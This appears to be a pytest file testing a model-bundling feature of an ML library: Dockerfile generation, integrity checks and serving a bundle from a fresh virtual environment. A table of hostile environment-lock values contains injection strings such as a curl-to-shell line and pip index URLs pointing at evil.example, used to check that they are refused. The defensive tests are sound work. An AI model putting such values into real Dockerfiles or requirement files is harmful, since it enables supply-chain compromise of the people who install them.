"""Bundles: self-contained folders that load and predict with no store at all."""

from __future__ import annotations

import importlib.metadata
import json
import os
import platform
import subprocess
import sys
import venv
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from sklearn.ensemble import RandomForestClassifier

import steward
from steward import models
from steward.errors import Conflict, IntegrityError, InvalidInput
from steward.models.package import save_model
from tests.models.helpers import edit_descriptor

PROJECT_ROOT = Path(__file__).resolve().parents[2]


def _bundle(tmp_path: Path) -> tuple[Path, np.ndarray, np.ndarray]:
    rng = np.random.default_rng(3)
    X = rng.normal(size=(120, 4))
    model = RandomForestClassifier(n_estimators=8, random_state=0).fit(X, X[:, 0] > 0)
    with steward.start_run():
        models.log(model, input_example=X[:2], register="bundled")
    models.approve("bundled", 1, "ok")
    models.set_alias("bundled", "production", 1, reason="release")
    out = models.bundle("models:/bundled@production", tmp_path / "bundle")
    return out, X, model.predict_proba(X)


def test_bundle_layout_and_dockerfile(workspace: Any, tmp_path: Path) -> None:
    out, _, _ = _bundle(tmp_path)
    dockerfile = (out / "Dockerfile").read_text()
    steward_version = importlib.metadata.version("mlsteward")
    serving = f'"mlsteward[serve]=={steward_version}"'
    assert f"FROM python:{platform.python_version()}-slim" in dockerfile
    assert f"RUN pip install --no-cache-dir -r /bundle/requirements.lock {serving}" in dockerfile
    assert (
        'CMD ["steward", "serve", "/bundle", "--host", "0.0.0.0", "--port", "8080"]' in dockerfile
    )
    lock = (out / "requirements.lock").read_text()
    assert "scikit-learn==" in lock and "mlsteward" not in lock
    readme = (out / "README.md").read_text()
    assert "bundled" in readme and f"pip install -r requirements.lock {serving}" in readme
    install = json.loads((out / "bundle.json").read_text())["pip_install"]
    assert install == ["-r", "requirements.lock", f"mlsteward[serve]=={steward_version}"]
    with pytest.raises(Conflict, match="not empty"):
        models.bundle("models:/bundled@production", out)


def test_bundle_loads_without_a_store(workspace: Any, tmp_path: Path) -> None:
    out, X, expected = _bundle(tmp_path)
    steward.use_workspace(None)  # no store involved from here on
    loaded = models.load_bundle(out)
    np.testing.assert_allclose(loaded.predict_proba(X), expected)


def test_changed_bundle_file_is_refused(workspace: Any, tmp_path: Path) -> None:
    out, _, _ = _bundle(tmp_path)
    path = out / "model" / "model.skops"
    path.write_bytes(path.read_bytes() + b"\0")
    with pytest.raises(IntegrityError, match="does not match its recorded digest"):
        models.load_bundle(out)


HOSTILE_LOCKS = {
    "python-newline": ("python_version", "3.11\nRUN curl http://evil.example | sh"),
    "python-tag": ("python_version", "3.11-slim AS base"),
    "platform-newline": ("platform", "linux\n--index-url http://evil.example/simple"),
    "steward-quote": ("steward_version", '0.1.0" && curl http://evil.example "x'),
    "name-index-url": ("packages", {"--index-url http://evil.example/simple": "1.0"}),
    "name-editable": ("packages", {"-e git+https://evil.example/x": "1.0"}),
    "name-url": ("packages", {"evil @ https://evil.example/evil.whl": "1.0"}),
    "name-marker": ("packages", {"numpy; python_version > '3'": "1.0"}),
    "version-option": ("packages", {"numpy": "1.0 --extra-index-url http://evil.example"}),
    "version-marker": ("packages", {"numpy": "1.0; os_name == 'nt'"}),
    "version-newline": ("packages", {"numpy": "1.0\nevil==2.0"}),
    "version-url": ("packages", {"numpy": "https://evil.example/numpy.whl"}),
}


def _register_hand_edited(tmp_path: Path, field: str, value: Any) -> None:
    """Register a model whose descriptor's environment lock was edited by hand."""
    rng = np.random.default_rng(3)
    X = rng.normal(size=(40, 2))
    folder = tmp_path / "edited"
    save_model(RandomForestClassifier(n_estimators=2).fit(X, X[:, 0] > 0), folder)

    def edit(descriptor: dict[str, Any]) -> None:
        if field == "packages":
            descriptor["environment"]["packages"].update(value)
        else:
            descriptor["environment"][field] = value

    edit_descriptor(folder, edit)
    with steward.start_run() as run:
        run.log_artifacts(folder, prefix="model")
    models.register(f"runs:/{run.id}/model", "edited")


@pytest.mark.parametrize("case", sorted(HOSTILE_LOCKS))
def test_a_hand_edited_lock_is_refused_at_bundle_and_env_check(
    workspace: Any, tmp_path: Path, case: str
) -> None:
    field, value = HOSTILE_LOCKS[case]
    _register_hand_edited(tmp_path, field, value)
    with pytest.raises(InvalidInput, match=rf"environment\.{field}") as refused:
        models.bundle("models:/edited/1", tmp_path / "bundle")
    assert "\n" not in str(refused.value)  # the hostile value is quoted, not echoed raw
    assert not (tmp_path / "bundle").exists()
    with pytest.raises(InvalidInput, match=rf"environment\.{field}"):
        models.env_check("edited/1")


def test_env_check_of_an_edited_bundle_fails_in_one_line(workspace: Any, tmp_path: Path) -> None:
    out, _, _ = _bundle(tmp_path)
    edit_descriptor(
        out / "model",
        lambda d: d["environment"]["packages"].update({"--index-url http://evil.example": "1"}),
    )
    result = subprocess.run(
        [sys.executable, "-m", "steward.cli", "models", "env-check", "--bundle", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "400"},
    )
    assert result.returncode == 1
    assert "environment.packages['--index-url http://evil.example']" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout


@pytest.mark.parametrize(
    "extra", ["--index-url http://evil.example", "-e .", "torch==2.1", "x; os_name=='nt'", ""]
)
def test_extra_requirements_are_plain_distribution_names(workspace: Any, extra: str) -> None:
    rng = np.random.default_rng(3)
    X = rng.normal(size=(40, 2))
    with steward.start_run(), pytest.raises(InvalidInput, match="not a distribution name"):
        models.log(
            RandomForestClassifier(n_estimators=2).fit(X, X[:, 0] > 0),
            extra_requirements=(extra,),
        )


LOG_AND_BUNDLE = """
import sys
import numpy as np
import pandas as pd
from sklearn.ensemble import RandomForestClassifier
import steward
rng = np.random.default_rng(3)
X = pd.DataFrame(rng.normal(size=(120, 4)), columns=["age", "dose", "weight", "score"])
model = RandomForestClassifier(n_estimators=8, random_state=0).fit(X, X["age"] > 0)
with steward.start_run():
    steward.models.log(model, input_example=X.head(2), register="bundled")
steward.models.approve("bundled", 1, "ok")
steward.models.set_alias("bundled", "production", 1, reason="release")
steward.models.bundle("models:/bundled@production", sys.argv[1])
X.to_csv(sys.argv[2], index=False)
np.save(sys.argv[3], model.predict(X))
"""


def _run(command: list[str], **options: Any) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(command, capture_output=True, text=True, **options)
    assert result.returncode == 0, (command, result.stdout[-2000:], result.stderr[-3000:])
    return result


@pytest.mark.slow
@pytest.mark.timeout(1200)
def test_a_bundle_installs_as_it_says_and_serves(tmp_path: Path) -> None:
    """Log in a fresh process, install the bundle into a fresh venv its own way, serve, predict.

    Only Steward itself comes from a wheel built from this checkout (it is not on
    the package index); everything else is what the bundle's install line names.
    """
    import httpx

    from tests.services import free_port, wait_until

    environment = {key: value for key, value in os.environ.items() if key != "PYTHONPATH"}
    environment["STEWARD_HOME"] = str(tmp_path / "home")
    out, X_path, expected_path = tmp_path / "bundle", tmp_path / "X.csv", tmp_path / "y.npy"
    _run(
        [sys.executable, "-c", LOG_AND_BUNDLE, str(out), str(X_path), str(expected_path)],
        env=environment,
        cwd=tmp_path,
        timeout=300,
    )
    wheels = tmp_path / "wheels"
    _run(
        [
            sys.executable,
            "-m",
            "pip",
            "wheel",
            "-q",
            "--no-deps",
            "-w",
            str(wheels),
            str(PROJECT_ROOT),
        ],
        env=environment,
        timeout=600,
    )
    env_dir = tmp_path / "venv"
    venv.create(env_dir, with_pip=True)
    python = env_dir / "bin" / "python"
    install = json.loads((out / "bundle.json").read_text())["pip_install"]
    _run(
        [str(python), "-m", "pip", "install", "-q", "--find-links", str(wheels), *install],
        env=environment,
        cwd=out,
        timeout=900,
    )
    bundle_env = {key: value for key, value in environment.items() if key != "STEWARD_HOME"}
    check = _run(
        [str(env_dir / "bin" / "steward"), "models", "env-check", "--bundle", "."],
        env=bundle_env,
        cwd=out,
        timeout=120,
    )
    assert "matches" in check.stdout
    port = free_port()
    server = subprocess.Popen(
        [str(env_dir / "bin" / "steward"), "serve", ".", "--port", str(port)],
        env=bundle_env,
        cwd=out,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{port}"
    try:

        def ready() -> bool:
            try:
                return httpx.get(f"{url}/ready", timeout=2).status_code == 200
            except httpx.HTTPError:
                return server.poll() is not None

        assert wait_until(ready, timeout=180) and server.poll() is None
        rows = pd.read_csv(X_path).to_dict(orient="records")
        reply = httpx.post(f"{url}/predict", json={"inputs": rows}, timeout=30)
        assert reply.status_code == 200, reply.text
        answer = reply.json()
        assert answer["model"] == "bundled" and answer["version"] == 1
        assert answer["predictions"] == np.load(expected_path).tolist()
    finally:
        server.terminate()
        output = server.communicate(timeout=30)[0].decode(errors="replace")
    assert "ModuleNotFoundError" not in output, output[-3000:]
